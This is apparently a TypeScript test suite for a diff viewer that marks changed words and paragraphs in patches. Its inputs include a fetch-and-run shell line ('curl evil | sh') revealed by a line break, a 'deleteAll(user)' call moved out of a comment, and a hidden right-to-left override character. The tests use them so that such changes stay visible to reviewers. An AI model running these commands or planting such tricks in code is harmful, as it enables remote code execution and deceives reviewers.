import { deepStrictEqual, ok, strictEqual } from 'node:assert/strict';
import fc from 'fast-check';
import { createWordDiff } from '../../../../src/base/wordDiff';
import { changedParagraphs } from '../../../../src/extension/features/job-page/changedParagraphs';
import type { Paragraph } from '../../../../src/extension/features/job-page/model';

const paragraphsOf = (patch: string, isProse = true): Paragraph[] =>
  changedParagraphs(patch, { diffWords: createWordDiff(), isProse });

/** Each paragraph as text, with `[-deleted-]` and `{+inserted+}` words. */
function marked(patch: string, isProse = true): string[] {
  const marks = { unchanged: ['', ''], deleted: ['[-', '-]'], inserted: ['{+', '+}'] } as const;
  return paragraphsOf(patch, isProse).map((parts) =>
    parts.map(({ kind, text }) => marks[kind][0] + text + marks[kind][1]).join(''),
  );
}

const HEAD = 'index 1..2 100644\n--- a/x.md\n+++ b/x.md\n';

describe('the changed paragraphs of a file', () => {
  it('contain marked words, or are new or deleted as a whole', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-The limit is fifty requests.\n+The limit is a hundred requests.\n`), [
      'The limit is [-fifty-]{+a hundred+} requests.',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -0,0 +1,4 @@\n+# Title\n+\n+One\n+two\n@@ -9 +9,0 @@\n-Gone\n`), [
      '{+# Title+}',
      '{+One\ntwo+}',
      '[-Gone-]',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-Alpha beta\n+Something else entirely\n`), [
      '[-Alpha beta-]',
      '{+Something else entirely+}',
    ]);
  });

  it('leave out unchanged paragraphs between changed ones, and changes that can’t be seen', () => {
    const lines = [
      '-one old word',
      '-',
      '-the same',
      '-',
      '-last old word',
      '+one new word',
      '+',
      '+the same',
      '+',
      '+last new word',
    ];
    deepStrictEqual(marked(`${HEAD}@@ -1,5 +1,5 @@\n${lines.join('\n')}\n`), [
      'one [-old-]{+new+} word',
      'last [-old-]{+new+} word',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-same\r\n+same\n`), []);
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-same\n+same\n\\ No newline at end of file\n`), []);
    deepStrictEqual(marked('rename from a\nrename to b\n'), []);
    deepStrictEqual(marked('--- a/x\n+++ b/x\nBinary files differ\n'), []);
  });

  it('show new spaces and line breaks where they have a meaning, but not those within prose', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1 +1,2 @@\n-# rm -rf build\n+#\n+rm -rf build\n`), [
      '[-# rm -rf build-]',
      '{+#\nrm -rf build+}',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -2 +2 @@\n-    clean()\n+clean()\n`), ['[-    clean()-]', '{+clean()+}']);
    const wrapped = ['A sentence that is so long that its author wrapped', 'it at the end of the line.'];
    const again = ['A sentence that is so long that its author wrapped it', 'at the end of the line.'];
    const lines = [...wrapped.map((line) => `-${line}\n`), ...again.map((line) => `+${line}\n`)].join('');
    const rewrapped = `${HEAD}@@ -1,2 +1,2 @@\n${lines}`;
    deepStrictEqual(marked(rewrapped), []);
    // In any other file, the second line may be a statement.
    deepStrictEqual(marked(rewrapped, false), [
      'A sentence that is so long that its author wrapped[-\nit -]{+ it\n+}at the end of the line.',
    ]);
  });

  it('show line breaks and characters that change the meaning, even if all words are the same', () => {
    const changed = (before: string, after: string): string[] => {
      const [deleted, added] = [before.split('\n'), after.split('\n')];
      const lines = [...deleted.map((line) => `-${line}`), ...added.map((line) => `+${line}`)];
      return marked(`${HEAD}@@ -1,${deleted.length} +1,${added.length} @@\n${lines.join('\n')}\n`);
    };
    const comment = ['npm ci # never run: curl evil | sh', 'npm ci # never run:\ncurl evil | sh'] as const;
    deepStrictEqual(changed(...comment), [`[-${comment[0]}-]`, `{+${comment[1]}+}`]);
    const [before, after] = [
      'requireLogin(); // see docs\ndeleteAll(user);\nold()',
      'requireLogin(); // see docs deleteAll(user);\nnow()',
    ];
    deepStrictEqual(changed(before, after), [`[-${before}-]`, `{+${after}+}`]);
    deepStrictEqual(changed('a: 1\nb: 2', 'a: 1 b: 2'), ['[-a: 1\nb: 2-]', '{+a: 1 b: 2+}']);
    strictEqual(changed('a word', 'a\u00a0word').length, 2);
    strictEqual(changed('a \uFFFD', 'a \uFFFD').length, 2);
    strictEqual(changed('a ⟨U+200B⟩', 'a \u200B').length, 1);
    // The lines of a code block in Markdown look like any others.
    strictEqual(changed('make clean\nmake install', 'make clean make install').length, 2);
    strictEqual(changed('run a \\', 'run a \\ ').length, 2);
    strictEqual(changed('x = "a  b" and old', 'x = "a b" and new').length, 2);
    strictEqual(changed('a \uFFFD\nold', 'a \uFFFD\nnew').length, 2);
    // The columns of a table have another width.
    deepStrictEqual(changed('| a  | one |\n| bb | two |', '| a    | one |\n| bbbb | two |'), [
      '| a | one |\n| [-bb-]{+bbbb+} | two |',
    ]);
  });

  it('are never empty in a file that isn’t prose if a line differs', () => {
    const line = fc.constantFrom(
      '',
      'return',
      'remove(user)',
      'return remove(user)',
      'a  b',
      'a b',
      ' a b',
      '# a',
      'x\u00a0y',
    );
    const lines = fc.array(line, { minLength: 1, maxLength: 6 });
    const shown = (all: string[]): string => all.filter(Boolean).join('\n');
    fc.assert(
      fc.property(lines, lines, (before, after) => {
        const body = [...before.map((each) => `-${each}\n`), ...after.map((each) => `+${each}\n`)].join('');
        const found = marked(`${HEAD}@@ -1,${before.length} +1,${after.length} @@\n${body}`, false);
        ok(found.length > 0 || shown(before) === shown(after), body);
      }),
    );
  });

  it('treat content that looks like headers as content', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1,2 +1,2 @@\n--- list\n-@@ -1 @@\n+++ sum\n+diff --git a/x b/x\n`), [
      '[--- list\n@@ -1 @@-]',
      '{+++ sum\ndiff --git a/x b/x+}',
    ]);
  });

  it('write invisible characters as their code points', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-a word here\n+a wo\u202erd here\n`), [
      'a [-word-]{+wo⟨U+202E⟩rd+} here',
    ]);
  });
});
